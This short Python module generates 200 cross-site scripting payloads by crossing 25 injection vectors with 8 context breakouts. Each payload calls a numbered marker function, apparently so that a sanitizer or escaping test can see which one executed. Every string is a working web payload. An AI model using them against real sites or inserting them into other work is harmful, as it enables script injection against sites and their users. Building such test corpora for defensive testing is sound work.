"""Text that would run as a script if a page let it: 25 ways, each breaking out of 8 places."""

#: What every one of them calls, with its own number, if it is let.
CALL = "planted({number})"

#: `{call}` runs if the browser reads the text as markup or script.
WAYS = (
    "<script>{call}</script>",
    "<ScRiPt >{call}</sCrIpT >",
    "<script/x>{call}</script/x>",
    "<img src=x onerror={call}>",
    "<img/src=x/onerror={call}>",
    '<img src="x" OnErRoR\n=\n"{call}">',
    "<svg onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s></svg>",
    "<math><mtext><img src=x onerror={call}></mtext></math>",
    "<input autofocus onfocus={call}>",
    "<details open ontoggle={call}>x</details>",
    "<video src=x onerror={call}></video>",
    "<audio src=x onerror={call}></audio>",
    "<object data=x onerror={call}></object>",
    '<iframe srcdoc="<script>parent.{call}</script>"></iframe>',
    '<iframe src="javascript:parent.{call}"></iframe>',
    "<style onload={call}></style>",
    "<body onload={call}>",
    "<marquee onstart={call}>x</marquee>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'></noscript>",
    "<template shadowrootmode=open><img src=x onerror={call}></template>",
    "<link rel=stylesheet href=x onerror={call}>",
    "&lt;img src=x onerror={call}&gt;<img src=x onerror={call}>",
    "<x tabindex=1 autofocus onfocus={call}>x</x>",
)

#: What closes the place that the text was put in.
PLACES = ("", '">', "'>", "-->", "</textarea>", "</title>", "</script>", "</option></select>")


def payloads() -> list[str]:
    """All of them; the number each calls with is its place in the list."""
    pairs = [(place, way) for way in WAYS for place in PLACES]
    return [
        place + way.format(call=CALL.format(number=number))
        for number, (place, way) in enumerate(pairs)
    ]
